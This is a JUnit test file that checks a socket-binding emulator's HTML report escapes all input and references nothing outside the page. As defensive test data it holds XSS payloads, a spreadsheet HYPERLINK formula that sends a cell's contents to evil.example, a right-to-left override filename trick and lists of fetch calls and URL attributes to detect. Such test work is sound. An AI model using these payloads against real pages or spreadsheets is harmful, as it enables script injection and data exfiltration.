package org.wskemu.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermission;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.TreeMap;
import java.util.Map;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * {@code wskemu report --html}: one self-contained page (no reference to anything outside it), every
 * input-derived string escaped, every decision linked to its explanation, and the command's own
 * contract (required format, {@code -o}, errors).
 */
class ReportCommandTest {

    /** The tags the renderer and its template write; anything else came from input. */
    static final Set<String> OWN_TAGS = Set.of("html", "head", "meta", "title", "style", "body", "main", "script", "div",
            "h1", "h2", "h3", "dl", "dt", "dd", "p", "code", "nav", "a", "span", "i", "b", "small", "section", "details",
            "summary", "ol", "li", "pre", "table", "thead", "tbody", "tr", "th", "td", "button", "colgroup", "col", "form",
            "select", "option", "label", "input", "output", "br", "em");

    /** Labels a session file may hold, each an attack on a page that would not escape them. */
    static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(2)>",
            "x' onmouseover='alert(3)",
            "</details></summary><a href=\"https://evil.example/\">",
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "bell\u0007esc\u001b[31mred",
            "rtl\u202Egnp.exe",
            "caf\u00e9 \u6f22\u5b57 \ud83d\ude00");

    private static final Pattern ATTRIBUTE = Pattern.compile("\\s([a-zA-Z-]+)\\s*=\\s*\"([^\"]*)\"");
    private static final Pattern TAG = Pattern.compile("<(/?)([a-zA-Z][a-zA-Z0-9]*)([^>]*)>");

    @TempDir
    Path temp;

    @Test
    void quickstartReportReferencesNothingOutsideItself() {
        String store = temp.resolve("store").toString();
        Cli.ok("--store", store, "run", Cli.QUICKSTART.toString());
        String page = Cli.ok("--store", store, "report", "--html").out();

        assertSelfContained(page);
        assertFalse(page.contains("http:") || page.contains("https:"), "a URL in the quickstart's report");
    }

    @Test
    void committedSampleReferencesNothingOutsideItself() throws IOException {
        String sample = Files.readString(ExampleReportTest.SAMPLE, StandardCharsets.UTF_8);
        assertSelfContained(sample);
        assertFalse(sample.contains("http:") || sample.contains("https:"));
    }

    @Test
    void everyDecisionAndCallLinksToItsExplanation() {
        String store = temp.resolve("store").toString();
        Cli.ok("--store", store, "run", Cli.QUICKSTART.toString());
        String page = Cli.ok("--store", store, "report", "--html").out();
        List<JsonNode> audit = Cli.ok("--store", store, "audit", "--json").json();
        List<JsonNode> history = Cli.ok("--store", store, "history", "--json").json();

        Set<String> ids = values(page, "id");
        for (String link : values(page, "href")) {
            assertTrue(ids.contains(link.substring(1)), "a link to nothing: " + link);
        }
        for (JsonNode decision : audit) {
            long position = decision.get("position").asLong();
            assertTrue(page.contains("href=\"#p-" + position + "\" style="), "no mark for the decision at " + position);
            assertTrue(page.contains("href=\"#p-" + position + "\""), "no link to the decision at " + position);
            assertTrue(ids.contains("p-" + position), "no explanation of the decision at " + position);
        }
        // issue #26: every decision has its explanation (above), every refused call too; the calls that
        // succeeded with nothing to explain are counted in their run's line, history lists them
        for (JsonNode event : history) {
            if (event.get("text").asText().contains(" refused")) {
                assertTrue(ids.contains("p-" + event.get("position").asLong()), "no explanation of the refusal " + event);
            }
        }
        assertTrue(page.contains("more succeeded with nothing to explain"), "the other calls are counted");
    }

    @Test
    void hostileLabelsAndFileNamesAreTextNeverMarkup() throws IOException {
        Path session = hostileSession(temp.resolve("<b>run\" onload=\"x.wsk.jsonl"));
        String store = temp.resolve("store").toString();
        Cli.Result run = Cli.run("--store", store, "run", session.toString());
        assertEquals(0, run.exit(), run::toString);

        String page = Cli.ok("--store", store, "report", "--html").out();

        assertSelfContained(page);
        for (int i = 0; i < page.length(); i++) {
            char c = page.charAt(i);
            assertTrue(c == '\n' || c == '\t' || (c >= 0x20 && c < 0x7F), "character " + (int) c + " at " + i);
        }
        assertEquals(1, count(page, "<script"), "a script from input");
        assertTrue(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "the label is not shown as text");
        assertTrue(page.contains("&quot;&gt;&lt;img src=x onerror=alert(2)&gt;"));
        assertTrue(page.contains("x&#39; onmouseover=&#39;alert(3)"));
        assertTrue(page.contains("bell\\u0007esc\\u001B[31mred"), "control characters are not shown");
        assertTrue(page.contains("rtl\\u202Egnp.exe"), "the right-to-left override is not shown");
        assertTrue(page.contains("caf&#xE9; &#x6F22;&#x5B57; &#x1F600;"), "text beyond ASCII is not kept");
        assertTrue(page.contains("&lt;b&gt;run&quot; onload=&quot;x.wsk.jsonl"), "the session file's name is not text");
        // the exclusive holder is the deciding socket of the refusals, in the audit's deciding-socket column
        assertEquals(HOSTILE.size() - 1, count(page, "<td>&lt;script&gt;alert(1)&lt;/script&gt;<td><td>"),
                page);
    }

    @Test
    void aBindingHeldFromAnEarlierRunHasItsLaneInTheNext() {
        String store = temp.resolve("store").toString();
        Cli.ok("--store", store, "run", Cli.QUICKSTART.toString());
        Path second = Cli.session(temp.resolve("second.wsk.jsonl"), StoreCommandsTest.DENY_RUN);
        Cli.ok("--store", store, "run", second.toString());
        List<JsonNode> live = Cli.ok("--store", store, "state", "--json").json();

        String page = Cli.ok("--store", store, "report", "--html").out();

        String run2 = page.substring(page.indexOf("<section class=\"run\" id=\"run-2\">"), page.indexOf("<section id=\"warnings\">"));
        Set<String> lanes = new TreeSet<>(values(run2, "data-port"));
        Set<String> held = new TreeSet<>();
        live.forEach(b -> held.add(b.get("protocol").asText() + "/" + b.get("family").asText() + "/"
                + b.get("address").asText().substring(b.get("address").asText().lastIndexOf(':') + 1)));
        // issue #26: run 2's own port has its lane; the ports it only held from run 1 are one collapsed line
        assertEquals(Set.of("tcp/inet/8080"), lanes, run2);
        assertEquals(1, count(run2, "class=\"span after\""), run2);
        String inherited = run2.substring(run2.indexOf("<p class=\"inherited\">"));
        held.remove("tcp/inet/8080");
        assertTrue(inherited.startsWith("<p class=\"inherited\">" + held.size()
                + " ports held from earlier runs, untouched in this run ("), inherited);
        // counted by protocol and family, and pointing at the command that names each binding
        Map<String, Long> kinds = held.stream().collect(Collectors.groupingBy(p -> p.substring(0, p.lastIndexOf('/')),
                TreeMap::new, Collectors.counting()));
        kinds.forEach((kind, n) -> assertTrue(inherited.contains(kind + " " + n), kind + " " + n + " in " + inherited));
        assertTrue(inherited.contains("<code>wskemu state --at "), inherited);
    }

    @Test
    void anEmptyStoreGivesAPageThatSaysSo() {
        String page = Cli.ok("--store", Cli.emptyStore(temp.resolve("store")).toString(), "report", "--html").out();
        assertSelfContained(page);
        assertTrue(page.contains("<p>no bind decisions</p>") && page.contains("<p>no misuse warnings</p>"));
        assertEquals(0, count(page, "class=\"lane\""));
    }

    @Test
    void aDivergenceFromTheRecordingIsFlaggedOnItsCall() throws IOException {
        Path session = temp.resolve("diverging.wsk.jsonl");
        Files.writeString(session, String.join("\n",
                "{\"op\":\"process\",\"pid\":4,\"user\":\"SY\"}",
                "{\"op\":\"socket\",\"socket\":\"a\",\"category\":\"listen\",\"family\":\"inet\",\"process\":4}",
                "{\"op\":\"bind\",\"socket\":\"a\",\"address\":\"0.0.0.0:80\",\"expect\":\"SUCCESS\"}",
                "{\"op\":\"socket\",\"socket\":\"b\",\"category\":\"listen\",\"family\":\"inet\",\"process\":4}",
                "{\"op\":\"bind\",\"socket\":\"b\",\"address\":\"0.0.0.0:80\",\"expect\":\"SUCCESS\"}", ""));
        String store = temp.resolve("store").toString();
        assertEquals(1, Cli.run("--store", store, "run", session.toString()).exit());

        String page = Cli.ok("--store", store, "report", "--html").out();
        assertSelfContained(page);
        // b's bind: its row's diverged column has its line and what was recorded
        // issue #26: the count is a link to the audit filtered to the diverged decisions, which carry a column
        assertTrue(page.contains("<a href=\"#only-diverged\">1 divergence</a> from the recordings' expectations"), page);
        assertTrue(page.contains("#only-diverged:target~section.run tr.diverged{display:table-row}"), page);
        assertEquals(1, count(page, " diverged\"><td>"), "one audit row of class diverged");
        assertTrue(page.contains("<td>line 5: recorded STATUS_SUCCESS<td>"), page);
    }

    @Test
    void aStoreThatDoesNotExistIsRefusedAndNotCreated() {
        Path store = temp.resolve("missing").resolve("store");
        Cli.Result result = Cli.run("--store", store.toString(), "report", "--html");
        assertEquals(3, result.exit(), result.err());
        assertTrue(result.err().contains(store.toAbsolutePath().toString()), result.err());
        assertTrue(Files.notExists(store.getParent()), "nothing created");
    }

    @Test
    void outputFileHoldsThePageAndStdoutNothing() throws IOException {
        String store = temp.resolve("store").toString();
        Cli.ok("--store", store, "run", Cli.QUICKSTART.toString());
        Path file = temp.resolve("report.html");
        Files.writeString(file, "an older report");

        Cli.Result result = Cli.ok("--store", store, "report", "--html", "-o", file.toString());

        assertEquals("", result.out());
        assertEquals(Cli.ok("--store", store, "report", "--html").out(), Files.readString(file, StandardCharsets.UTF_8));
        try (var left = Files.list(temp)) {
            assertTrue(left.noneMatch(p -> p.getFileName().toString().endsWith(".part")), "a partial file was left");
        }
        if (file.getFileSystem().supportedFileAttributeViews().contains("posix")) {
            // made to be handed on: readable as any new file is, not owner-only like the store
            assertTrue(Files.getPosixFilePermissions(file).contains(PosixFilePermission.OTHERS_READ)
                    || !Files.getPosixFilePermissions(Files.createFile(temp.resolve("plain"))).contains(
                            PosixFilePermission.OTHERS_READ), () -> "report.html is " + permissions(file));
        }
    }

    @ParameterizedTest(name = "-o {0}")
    @ValueSource(strings = {"missing/dir/report.html", "."})
    void anUnwritableOutputIsOneLineAndExit2(String output) {
        Path store = temp.resolve("store");
        Cli.Result result = Cli.run("--store", store.toString(), "report", "--html", "-o",
                output.equals(".") ? temp.toString() : temp.resolve(output).toString());
        Cli.assertOneLineError(ExitCode.BAD_INPUT, result);
        assertTrue(result.err().startsWith("wskemu: -o "), result::toString);
        assertFalse(Files.exists(store), "the store was created for a report that could not be written");
    }

    @Test
    void theFormatIsRequired() {
        Cli.Result result = Cli.run("--store", temp.resolve("store").toString(), "report");
        Cli.assertOneLineError(ExitCode.BAD_INPUT, result);
        assertTrue(result.err().contains("--html"), result::toString);
    }

    /**
     * No reference to anything outside the page: every tag is one the renderer writes, with no event
     * handler and no URL-bearing attribute but fragment links; no import or url() in the styles;
     * nothing in the script that could fetch; and a policy that forbids fetching anyway.
     */
    static void assertSelfContained(String page) {
        assertTrue(page.startsWith("<!DOCTYPE html>"));
        assertTrue(page.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none';"));
        Matcher tags = TAG.matcher(page);
        while (tags.find()) {
            assertTrue(OWN_TAGS.contains(tags.group(2).toLowerCase(Locale.ROOT)), "a tag from input: " + tags.group());
            Matcher attributes = ATTRIBUTE.matcher(tags.group(3));
            while (attributes.find()) {
                String name = attributes.group(1).toLowerCase(Locale.ROOT);
                String value = attributes.group(2);
                assertFalse(name.startsWith("on"), "an event handler: " + tags.group());
                assertFalse(URL_ATTRIBUTES.contains(name), "a reference out of the page: " + tags.group());
                if (name.equals("href")) {
                    assertTrue(value.startsWith("#"), "a link out of the page: " + tags.group());
                }
                if (name.equals("style")) {
                    assertFalse(value.toLowerCase(Locale.ROOT).contains("url("), tags.group());
                }
            }
        }
        String style = between(page, "<style>", "</style>").toLowerCase(Locale.ROOT);
        assertFalse(style.contains("@import") || style.contains("url(") || style.contains("http"), "styles reach out");
        String script = between(page, "<script>", "</script>").toLowerCase(Locale.ROOT);
        for (String reach : List.of("fetch(", "xmlhttprequest", "import(", "websocket", "eventsource", "sendbeacon",
                "http", ".src", "location =", "location.href =", "window.open")) {
            assertFalse(script.contains(reach), "the script could reach out: " + reach);
        }
    }

    private static final Set<String> URL_ATTRIBUTES = Set.of("src", "srcset", "action", "formaction", "poster", "data",
            "background", "ping", "cite", "manifest", "xlink:href", "codebase", "longdesc", "usemap");

    private static String between(String page, String open, String close) {
        int start = page.indexOf(open);
        assertTrue(start >= 0 && page.indexOf(open, start + 1) < 0, "not exactly one " + open);
        return page.substring(start + open.length(), page.indexOf(close, start));
    }

    private static String permissions(Path file) {
        try {
            return PosixFilePermissions.toString(Files.getPosixFilePermissions(file));
        } catch (IOException e) {
            return e.toString();
        }
    }

    static Set<String> values(String page, String attribute) {
        Set<String> values = new LinkedHashSet<>();
        Matcher m = Pattern.compile("\\s" + attribute + "=\"([^\"]*)\"").matcher(page);
        while (m.find()) {
            values.add(m.group(1));
        }
        return values;
    }

    static int count(String text, String part) {
        int n = 0;
        for (int at = text.indexOf(part); at >= 0; at = text.indexOf(part, at + part.length())) {
            n++;
        }
        return n;
    }

    /**
     * A session whose sockets carry {@link #HOSTILE} labels: the first binds 0.0.0.0:7000
     * exclusively (so it is the deciding socket of every other bind, refused beside it); the second
     * is closed and binds again (a misuse warning).
     */
    static Path hostileSession(Path file) {
        List<String> lines = new ArrayList<>();
        lines.add("{\"op\":\"process\",\"pid\":4,\"user\":\"SY\"}");
        for (int i = 0; i < HOSTILE.size(); i++) {
            String label = Json.line(HOSTILE.get(i));
            lines.add("{\"op\":\"socket\",\"socket\":" + label + ",\"category\":\"listen\",\"family\":\"inet\",\"process\":4}");
            if (i == 0) {
                lines.add("{\"op\":\"set\",\"socket\":" + label + ",\"option\":\"SO_EXCLUSIVEADDRUSE\",\"value\":1}");
            }
            lines.add("{\"op\":\"bind\",\"socket\":" + label + ",\"address\":\"" + (i == 0 ? "0.0.0.0" : "10.0.0." + i)
                    + ":7000\"}");
            if (i == 1) {
                lines.add("{\"op\":\"close\",\"socket\":" + label + "}");
                lines.add("{\"op\":\"bind\",\"socket\":" + label + ",\"address\":\"10.0.0.9:7000\"}");
            }
        }
        return Cli.session(file, lines);
    }
}
